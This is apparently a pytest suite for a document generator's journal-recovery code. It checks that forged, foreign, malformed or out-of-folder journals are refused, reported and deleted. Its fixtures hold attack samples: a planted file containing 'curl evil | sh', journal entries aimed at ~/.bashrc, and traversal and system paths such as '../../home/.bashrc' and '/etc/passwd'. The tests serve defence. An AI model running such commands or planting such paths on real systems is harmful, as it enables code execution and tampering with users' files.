"""A journal left in an output folder is trusted only if this user's tool signed it, and recovery never
touches a file outside the folder the journal sits in, nor one named otherwise than the tool names its
own staged and backup files. Anything else is reported in one line, deleted, and left without effect."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from cchc_docgen.cli import main
from cchc_docgen.core import journal as _journal

from .conftest import EXAMPLES


def dead_pid() -> int:
    """The id of a process that has ended."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def build(out: Path) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["build", str(EXAMPLES["002"]), "-o", str(out), "-j", "1"])
    return result.exit_code, result.output


@pytest.fixture
def victim(tmp_path: Path) -> dict[str, Path]:
    """Files of the user's outside the output folder, and an attacker's file inside it."""
    home = tmp_path / "home"
    home.mkdir()
    files = {
        "bashrc": home / ".bashrc",
        "notes": home / "notes.txt",
        "third": home / "thesis.docx",
    }
    for name, path in files.items():
        path.write_text(f"the user's {name}\n", encoding="utf-8")
    return files


def plant(out: Path, name: str, text: str) -> Path:
    out.mkdir(exist_ok=True)
    journal = out / name
    journal.write_text(text, encoding="utf-8")
    return journal


def assert_refused(code: int, output: str, journal: Path) -> None:
    assert code == 0
    notice = (
        f"{journal}: cảnh báo: đã bỏ qua và xóa tệp nhật ký không do chương trình ghi ra"
    )
    lines = [line for line in output.splitlines() if "nhật ký" in line]
    assert len(lines) == 1 and lines[0].startswith(notice), output
    assert lines[0].endswith("không tệp nào khác bị động đến")
    assert not journal.exists()


def test_a_planted_journal_of_the_earlier_format_with_absolute_paths_is_refused(
    tmp_path: Path, victim: dict[str, Path]
) -> None:
    out = tmp_path / "shared-out"
    out.mkdir()
    attacker = out / "evil.sh"
    attacker.write_text("curl evil | sh\n", encoding="utf-8")
    pid = dead_pid()
    record = {
        "pid": pid,
        "entries": [
            # "roll back": the backup (the attacker's file) renamed onto ~/.bashrc …
            {"target": str(victim["bashrc"]), "staged": str(victim["notes"]), "backup": str(attacker)},
            # … a "new" target without an old one removed, and a staged file deleted.
            {"target": str(victim["third"]), "staged": str(tmp_path / "gone.tmp"), "backup": None},
        ],
    }
    journal = plant(out, f".cchc-{pid}-0badf00d.journal", json.dumps(record))
    code, output = build(out)
    assert_refused(code, output, journal)
    assert "(không đúng định dạng)" in output
    for name, path in victim.items():
        assert path.read_text(encoding="utf-8") == f"the user's {name}\n"
    assert attacker.read_text(encoding="utf-8") == "curl evil | sh\n"
    # Gone for good: the next build says nothing of it.
    code, output = build(out)
    assert code == 0 and "nhật ký" not in output


def current_format_record(pid: int, folder: Path, entries: list[list[str | None]]) -> dict[str, object]:
    name = f".cchc-{pid}-0badf00d.journal"
    return {
        "format": _journal.JOURNAL_FORMAT,
        "name": name,
        "folders": [{"folder": str(folder), "entries": entries}],
    }


def test_a_journal_in_the_current_format_signed_with_another_key_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert build(out)[0] == 0
    report = next(out.glob("*bao-cao.docx"))
    before = report.read_bytes()
    pid = dead_pid()
    attacker = out / f".cchc-{pid}-0badf00d-{report.name}.bak"
    attacker.write_bytes(b"not a report")
    staged = f".cchc-{pid}-0badf00d-{report.name}.tmp"
    (out / staged).write_bytes(b"")
    record = current_format_record(pid, out, [[report.name, staged, attacker.name]])
    journal = plant(out, str(record["name"]), json.dumps({**record, "mac": "0" * 64}))
    code, output = build(out)
    assert_refused(code, output, journal)
    assert "(chữ ký không hợp lệ)" in output
    assert report.read_bytes() != b"not a report"
    assert len(report.read_bytes()) == len(before)


def test_a_signed_journal_never_reaches_outside_its_folder(tmp_path: Path, victim: dict[str, Path]) -> None:
    """Even a journal this user's tool signed acts only on its own folder's files, named as the tool
    names them: a journal naming a folder that holds no copy of it leaves that folder alone."""
    out = tmp_path / "out"
    out.mkdir()
    pid = dead_pid()
    home = victim["bashrc"].parent
    planted_backup = home / f".cchc-{pid}-0badf00d-.bashrc.bak"
    planted_backup.write_text("replaced\n", encoding="utf-8")
    record = current_format_record(pid, out, [])
    record["folders"] = [
        {"folder": str(out), "entries": []},
        {"folder": str(home), "entries": [[".bashrc", f".cchc-{pid}-0badf00d-.bashrc.tmp", planted_backup.name]]},
    ]
    (home / f".cchc-{pid}-0badf00d-.bashrc.tmp").write_text("staged\n", encoding="utf-8")
    journal = plant(out, str(record["name"]), _journal._signed(record))
    code, output = build(out)
    assert code == 0 and "nhật ký" not in output  # a journal of ours, whose other folder was done
    assert not journal.exists()
    assert victim["bashrc"].read_text(encoding="utf-8") == "the user's bashrc\n"
    assert planted_backup.read_text(encoding="utf-8") == "replaced\n"


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        (["../../home/.bashrc", None, None], "tên tệp không hợp lệ"),
        (["/etc/passwd", None, None], "tên tệp không hợp lệ"),
        (["report.docx", "evil.tmp", None], "tên tệp không hợp lệ"),  # not a staged name of the tool
        (["report.docx", None, ".cchc-1-0badf00d-report.docx.bak"], "tên tệp không hợp lệ"),  # another pid
        (["report.docx", None, "{pid}-other.docx.bak"], "tên tệp không hợp lệ"),  # not this target's backup
    ],
)
def test_a_signed_journal_naming_files_the_tool_does_not_make_is_refused(
    tmp_path: Path, entry: list[str | None], reason: str
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    pid = dead_pid()
    entry = [e.replace("{pid}", f".cchc-{pid}-0badf00d-") if e else e for e in entry]
    record = current_format_record(pid, out, [entry])
    journal = plant(out, str(record["name"]), _journal._signed(record))
    code, output = build(out)
    assert_refused(code, output, journal)
    assert f"({reason})" in output


def test_a_copy_of_a_signed_journal_from_another_folder_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    pid = dead_pid()
    record = current_format_record(pid, elsewhere, [])
    journal = plant(out, str(record["name"]), _journal._signed(record))
    code, output = build(out)
    assert_refused(code, output, journal)
    assert "(không nói về thư mục chứa nó)" in output


def test_an_oversized_or_binary_journal_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "out"
    pid = dead_pid()
    journal = plant(out, f".cchc-{pid}-0badf00d.journal", "")
    journal.write_bytes(b"\xff\xfe" * 10)
    code, output = build(out)
    assert_refused(code, output, journal)
    assert "(không phải văn bản UTF-8)" in output
    journal = plant(out, f".cchc-{pid}-0badf00e.journal", " " * (2 << 20))
    code, output = build(out)
    assert_refused(code, output, journal)
    assert "(tệp quá lớn)" in output
